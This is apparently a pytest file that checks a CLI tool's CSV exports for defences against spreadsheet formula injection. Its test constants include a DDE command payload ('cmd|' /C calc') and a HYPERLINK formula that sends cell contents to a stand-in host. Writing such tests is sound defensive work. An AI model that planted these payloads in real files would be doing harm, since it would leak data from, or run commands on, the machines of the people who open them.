"""Every CSV export guards cells a spreadsheet would run as formulas (one function,
:func:`tipreader.export.csv_cells.guard_cell`), and ``--raw-cells`` writes them as they are.

The CLI is run as a user runs it (subprocess) on a library holding the Mexico submission
with a formula planted at the start of the answer to question 2.C."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tipreader.export.csv_cells import CsvWriter, guard_cell

ROOT = Path(__file__).resolve().parents[2]
MEXICO = ROOT / "sample_cables" / "08MEXICO721.txt"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"see")'
NOTE = "=cmd|' /C calc'!A0"
TRIGGERS = tuple("=+-@\t\r")


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("＝1+1", "'＝1+1"),
    ("-- Congress approved", "'-- Congress approved"),
    ("-3", "-3"), ("+1.5", "+1.5"), ("-2e3", "-2e3"), (-7, "-7"), (2.5, "2.5"), (None, ""), (True, "True"),
    ("plain text", "plain text"), (" =1", " =1"), ("", ""), ("a=b", "a=b"),
])
def test_guard_cell(value, cell):
    assert guard_cell(value) == cell


def test_writer_guards_unless_raw():
    out, raw = io.StringIO(newline=""), io.StringIO(newline="")
    CsvWriter(out).writerow(["=1+1", 5, "x"])
    CsvWriter(raw, raw=True).writerow(["=1+1", 5, "x"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "5", "x"]
    assert next(csv.reader(io.StringIO(raw.getvalue()))) == ["=1+1", "5", "x"]


def _cli(env: dict, *args: str) -> str:
    run = subprocess.run([sys.executable, "-m", "tipreader", *args], capture_output=True, text=True, env=env,
                         timeout=180, cwd=ROOT, stdin=subprocess.DEVNULL)
    assert run.returncode == 0 and "Traceback" not in run.stderr, run.stderr
    return run.stdout


@pytest.fixture(scope="module")
def env(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("csvguard")
    text = MEXICO.read_text(encoding="utf-8")
    line = "\nPOST RESPONSE: On November 27, 2007, Mexico passed its\n"
    assert text.count(line) == 1
    planted = tmp / "08MEXICO721.txt"
    planted.write_text(text.replace(line, line.replace("RESPONSE: ", f"RESPONSE: {FORMULA} ")), encoding="utf-8")
    env = {**os.environ, "TIPREADER_HOME": str(tmp / "home"), "TIPREADER_CONFIG": str(tmp / "config.toml"),
           "NO_COLOR": "1"}
    _cli(env, "import", "--no-entities", str(planted))
    _cli(env, "codes", "add", "08MEXICO721", "12", "objection", "--note", NOTE)
    _cli(env, "bookmarks", "add", "08MEXICO721", "12", "--note", NOTE)
    return env


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


EXPORTS = {
    "codes export": ("codes", "export", "--csv"),
    "bookmarks export": ("bookmarks", "export", "--format", "csv"),
    "tip export": ("tip", "export", "--csv"),
    "tip compare": ("tip", "compare", "08MEXICO721:2.C", "--csv"),
    "tip figures": ("tip", "figures", "--csv"),
}


@pytest.mark.parametrize("command", EXPORTS)
def test_no_cell_of_any_csv_export_starts_a_formula(env, command):
    cells = _cells(_cli(env, *EXPORTS[command]))
    assert len(cells) > 10
    bad = [c for c in cells if c.startswith(TRIGGERS) and not c.lstrip("+-").replace(".", "").isdigit()]
    assert bad == []
    guarded = [c for c in cells if c.startswith("'")]
    assert guarded  # the planted formula (or note, or a '-- ' sentence) is there, as text
    raw = _cells(_cli(env, *EXPORTS[command], "--raw-cells"))
    assert [c for c in raw if c.startswith(TRIGGERS)] == [c[1:] for c in guarded]


def test_the_planted_texts_are_kept_whole(env):
    codes = list(csv.DictReader(io.StringIO(_cli(env, "codes", "export", "--csv"), newline="")))
    assert [r["note"] for r in codes] == ["'" + NOTE]
    answers = list(csv.DictReader(io.StringIO(_cli(env, "tip", "export", "--csv"), newline="")))
    [planted] = [r for r in answers if r["question_label"] == "2.C"]
    assert planted["answer"].startswith("'" + FORMULA)
    marks = list(csv.DictReader(io.StringIO(_cli(env, "bookmarks", "export", "--format", "csv"), newline="")))
    assert [(r["ref_id"], r["paragraph"], r["note"]) for r in marks] == [("08MEXICO721", "12", "'" + NOTE)]
